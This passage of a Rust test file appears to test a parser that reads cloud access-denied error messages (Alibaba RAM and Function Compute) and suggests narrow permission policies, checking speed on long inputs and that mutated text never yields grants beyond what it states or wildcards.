            1 + usize::from(command.is_some()),
            "{commands:?}"
        );
        if let Some(command) = command {
            assert!(commands[1].contains(command), "{commands:?}");
        }
    }
}

#[test]
fn ram_s_word_counts_for_more_than_the_text_s() {
    let decoded = |action: &str, resource: &str| Decoded {
        action: Some(action.to_owned()),
        resource: Some(resource.to_owned()),
        denial: Some(crate::preflight::Denial::Implicit),
        ..Decoded::default()
    };
    let explained = |text: &str, decoded: Decoded| Evidence::read(text).decoded(decoded).explain();
    let text = denial("fc:InvokeFunction", OWN).to_string();
    let agreed = explained(&text, decoded("fc:InvokeFunction", OWN));
    assert!(granted(&agreed).is_some());
    assert!(
        !agreed
            .failure
            .why
            .iter()
            .any(|why| why.contains("the text's own"))
    );
    let other = explained(
        &text,
        decoded("ram:CreateUser", "acs:ram::1234567890123456:user/x"),
    );
    assert_eq!(other.reading.action.as_deref(), Some("ram:CreateUser"));
    assert_eq!(granted(&other), None);
    // What the text does not say whole, RAM does.
    let cut = &text[..text.len() - 30];
    assert_eq!(granted(&super::tests::explained(cut)), None);
    assert!(granted(&explained(cut, decoded("fc:InvokeFunction", OWN))).is_some());
}

#[test]
fn a_long_text_takes_no_long_time() {
    // Each would take hours if a place were searched from again and again.
    for piece in [
        "message:",
        "message:\"",
        "\\",
        "\\\"message\\\":\\\"",
        "the caller is not authorized to perform '",
        "Code: ",
        "{\"Code\":{",
        "code: 403,",
        "'",
        "EncodedDiagnosticMessage:\"A",
        "t h e c a l l e r ",
    ] {
        let text = piece.repeat(1024 * 1024 / piece.len());
        assert!(
            Evidence::read(&text)
                .explain()
                .failure
                .suggested_policy
                .is_none()
        );
    }
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 400, failure_persistence: None, ..Default::default() })]

    #[test]
    fn a_mutated_text_grants_nothing_but_what_stands_in_it(
        form in 0_usize..40,
        cuts in proptest::collection::vec((0.0_f64..1.0, 0_usize..6, ".{0,3}"), 0..6),
    ) {
        let body = denial("fc:InvokeFunction", OWN);
        let mut forms: Vec<String> = forms_of_an_object(&body).into_iter().map(|(_, text)| text).collect();
        let sample = Sample { expected: EXPECTED[0], status: 403, headers: Value::Null, body };
        forms.extend(sdk_forms(&sample).into_iter().map(|(_, text)| text));
        let mut text: Vec<char> = forms[form % forms.len()].chars().collect();
        for (place, length, with) in cuts {
            #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a place in a short text")]
            let start = (place * text.len() as f64) as usize;
            let end = (start + length).min(text.len());
            text.splice(start..end, with.chars());
        }
        let text: String = text.into_iter().collect();
        if let Some((action, resource)) = granted(&explained(&text)) {
            let plain = clean::clean(&text);
            let plain = plain.replace("\\u002f", "/");
            proptest::prop_assert!(plain.contains(&action), "{action} is not in {text}");
            proptest::prop_assert!(plain.contains(&resource), "{resource} is not in {text}");
            proptest::prop_assert!(!action.contains('*') && !resource.contains('*'));
        }
    }
}
